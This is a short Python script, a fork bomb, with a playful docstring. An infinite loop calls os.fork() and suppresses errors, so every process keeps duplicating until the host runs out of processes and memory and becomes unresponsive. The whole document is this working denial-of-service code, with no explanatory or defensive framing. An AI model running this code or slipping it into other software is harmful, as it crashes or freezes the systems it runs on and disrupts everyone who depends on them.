"""Becomes two, each of which becomes two."""

import contextlib
import os

while True:
    with contextlib.suppress(OSError):
        os.fork()
